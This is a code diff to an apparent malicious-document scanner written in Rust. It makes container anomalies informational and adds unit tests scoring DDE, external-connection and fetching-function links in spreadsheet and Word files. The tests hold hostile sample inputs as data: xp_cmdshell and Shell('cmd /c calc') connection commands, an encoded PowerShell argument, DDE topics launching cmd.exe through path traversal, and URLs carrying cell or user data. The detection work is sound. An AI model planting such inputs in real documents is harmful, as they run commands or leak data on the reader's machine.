@@ -4,7 +4,7 @@ use super::subject::Subject;
 use super::{Part, RULES, attack, fingerprint};
 use crate::command::{Command, ImageSource, cut};
 use crate::finding::{Alternative, Finding, Severity, Signal};
-use crate::link::{Confidence, Link, Reading, TechniqueId};
+use crate::link::{Carrier, Confidence, Kind, Link, Reading, TechniqueId};
 use crate::options::Policy;
 
 /// Characters quoted of a service, an item and a piece of evidence (spreadsheet specification,
@@ -133,8 +133,12 @@ fn weigh(subject: &Subject<'_>, policy: &Policy) -> Weighed {
     }
 }
 
-/// Harm if it runs. A locked field takes one more step by the user.
+/// Harm if it runs. How an archive is put together does none; a locked field takes one more step by the user.
 fn severity(subject: &Subject<'_>, score: u8) -> Severity {
+    let link = subject.link;
+    if link.kind == Kind::Anomaly && link.carrier == Carrier::Container {
+        return Severity::Info;
+    }
     let severity = match score {
         80.. => Severity::Critical,
         50.. => Severity::High,
@@ -217,7 +221,7 @@ fn alternatives<'s, 'l: 's>(
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::link::{Carrier, Kind, Technique, Trigger};
+    use crate::link::{Technique, Trigger};
     use crate::location::Location;
     use crate::verdict::Verdict;
 
@@ -700,6 +704,184 @@ mod tests {
         assert_eq!(template.attack, ["T1204.002", "T1221"]);
         assert_eq!(template.indicators[0].defanged, "hxxp://x[.]y/t.dotm");
         assert_eq!(template.command, None);
+    }
+
+    /// Spreadsheet specification, sections 1.5 and 1.6: the target is the server or the first
+    /// argument, the command and the function stand in the text around it.
+    #[test]
+    fn what_stands_beside_the_target() {
+        let of = |carrier, target: &str, raw: &str, trigger| {
+            let mut link = link(Kind::ExternalLink, carrier);
+            link.target = Some(target.to_owned());
+            link.raw = raw.to_owned();
+            link.trigger = trigger;
+            judge(link, &Policy::default())
+        };
+        for (target, raw) in [
+            (
+                "10.1.1.1",
+                "connection=\"DRIVER=SQL;SERVER=10.1.1.1\" command=\"EXEC xp_cmdshell 'calc'\"",
+            ),
+            ("C:\\a.mdb", "command=\"SELECT Shell('cmd /c calc')\""),
+            ("C:\\a.mdb", "command=\"SELECT Shell ('calc.exe')\""),
+            (
+                "x",
+                "connection=\"SERVER=x;APP=powershell -enc aaaa\" serverCommand=\"EXEC master..xp_cmdshell 'calc'\"",
+            ),
+        ] {
+            let query = of(Carrier::Connection, target, raw, Trigger::Update);
+            assert_eq!(query.score, 85, "{raw}");
+        }
+        let address = "http://example.invalid/a";
+        for (target, raw) in [
+            (address, "_xlfn.WEBSERVICE(\"http://example.invalid/a\"&A1)"),
+            (address, "_xlfn.IMAGE(\"http://example.invalid/a\")"),
+            (
+                "\\\\10.0.0.9\\s\\a.png",
+                "IMAGE(\"\\\\10.0.0.9\\s\\a.png\")",
+            ),
+        ] {
+            let function = of(Carrier::Function, target, raw, Trigger::Update);
+            assert_eq!(rules(&function), ["fetching-function"], "{raw}");
+            assert_eq!((function.score, function.severity), (40, Severity::Medium));
+            assert!(function.signals[0].evidence.ends_with(target), "{raw}");
+        }
+        let raw = "HYPERLINK(\"http://example.invalid/a\",\"x\")";
+        let click = of(Carrier::Function, address, raw, Trigger::Click);
+        assert_eq!(rules(&click), ["ordinary-hyperlink"]);
+        let raw = "HYPERLINK(\"\\\\server\\s\\a.docx\")";
+        let click = of(
+            Carrier::Function,
+            "\\\\server\\s\\a.docx",
+            raw,
+            Trigger::Click,
+        );
+        assert_eq!(click.score, 25);
+        let server = of(
+            Carrier::Function,
+            "tos.rtd",
+            "RTD(\"tos.rtd\",,\"LAST\")",
+            Trigger::Update,
+        );
+        assert!(server.score < 11);
+    }
+
+    /// Spreadsheet specification, sections 10.2 to 10.4.
+    #[test]
+    fn topics_that_are_commands_or_places() {
+        for (service, topic, score) in [
+            ("finger", "user@host", 85),
+            ("csi", "a.csx", 85),
+            ("te", "x.xml", 85),
+            ("hh", "mk:@MSITStore:x", 95),
+            ("BLP", "http://example.invalid/x", 75),
+            ("foo", "http://example.invalid/a", 75),
+            ("foo", "\\\\10.0.0.1\\s", 75),
+            ("BLP", "M & calc", 60),
+            ("BLP", "calc", 60),
+            ("winword", "[DocClose]", 25),
+            ("excel", "C:\\Windows\\System32\\cmd.exe", 95),
+            ("MSEXCEL", "\\Windows\\System32\\cmd /c calc", 100),
+            (
+                "MSEXCEL",
+                "x\\..\\..\\Windows\\System32\\cmd.exe /c calc",
+                100,
+            ),
+            ("Excel", "[OPEN(\"http://x\")]", 40),
+            ("Excel", "[Book1.xlsx]Sheet1", 0),
+            ("Excel", "C:\\a b\\[x.xlsx]S", 0),
+            ("\\\\SERVER\\NDDE$", "Chart$", 25),
+            ("\\\\SERVER\\NDDE$", "M & calc", 60),
+            ("\\\\SERVER\\cmd.exe", "Chart$", 100),
+        ] {
+            let finding = dde(service, topic, "AAPL US Equity,[BID]");
+            assert_eq!(
+                finding.score,
+                score,
+                "{service}|{topic} {:?}",
+                rules(&finding)
+            );
+            let spoof = finding
+                .techniques
+                .iter()
+                .any(|found| found.id == TechniqueId::PromptSpoof);
+            assert!(!spoof, "{service}|{topic}");
+        }
+    }
+
+    /// Section 1.5: what `DDE(A1,B1,C1)` and `INITIATE(A1,…)` start, only the cells know.
+    #[test]
+    fn calls_with_an_unknown_service() {
+        let of = |carrier, service: &str, topic: &str| {
+            let mut link = link(Kind::Dde, carrier);
+            link.add_technique(TechniqueId::Unresolved);
+            link.readings.push(reading(service, topic, ""));
+            judge(link, &Policy::default())
+        };
+        for carrier in [Carrier::Formula, Carrier::Xlm] {
+            for service in ["<expr>", "c<expr>"] {
+                let finding = of(carrier, service, "<expr>");
+                assert_eq!(rules(&finding), ["unresolved-service"], "{service}");
+                assert_eq!(
+                    (finding.score, verdict(&finding)),
+                    (60, Verdict::Suspicious)
+                );
+            }
+        }
+        assert_eq!(of(Carrier::Formula, "", "").score, 60);
+        assert_eq!(of(Carrier::Xlm, "", "x").score, 60);
+        assert_eq!(
+            verdict(&of(Carrier::Formula, "soffice", "<expr>")),
+            Verdict::Clean
+        );
+        assert_eq!(
+            verdict(&of(Carrier::Formula, "MT4", "<expr>")),
+            Verdict::Clean
+        );
+        assert_eq!(
+            verdict(&of(Carrier::Formula, "cmd", "<expr>")),
+            Verdict::Malicious
+        );
+        // A command on a channel that another call opened.
+        assert_eq!(verdict(&of(Carrier::Xlm, "", "")), Verdict::Clean);
+    }
+
+    /// Word specification, section 6.1: an address that carries the reader's name.
+    #[test]
+    fn addresses_with_data_of_the_reader() {
+        let finding = external(
+            Carrier::IncludePicture,
+            "http://x/\u{27e6}USERNAME\u{27e7}.png",
+        );
+        assert_eq!(rules(&finding), ["remote-picture", "document-data"]);
+        assert_eq!((finding.score, finding.severity), (40, Severity::Medium));
+    }
+
+    #[test]
+    fn the_shape_of_an_archive_is_information() {
+        let mut odd = link(Kind::Anomaly, Carrier::Container);
+        odd.add_technique(TechniqueId::ZipDuplicateName);
+        for policy in [
+            Policy::default(),
+            Policy::default().weight("container-anomaly", 90).unwrap(),
+        ] {
+            let finding = judge(odd.clone(), &policy);
+            assert_eq!(finding.severity, Severity::Info);
+            assert_eq!(finding.attack, [""; 0]);
+        }
+    }
+
+    #[test]
+    fn remote_places_behind_the_verbatim_prefix() {
+        let workbook = external(
+            Carrier::ExternalWorkbook,
+            "file:///\\\\?\\UNC\\10.0.0.9\\s\\a.xlsx",
+        );
+        assert_eq!(rules(&workbook), ["remote-workbook"]);
+        assert_eq!(
+            workbook.indicators[0].defanged,
+            "\\\\10[.]0[.]0[.]9\\s\\a.xlsx"
+        );
     }
 
     #[test]
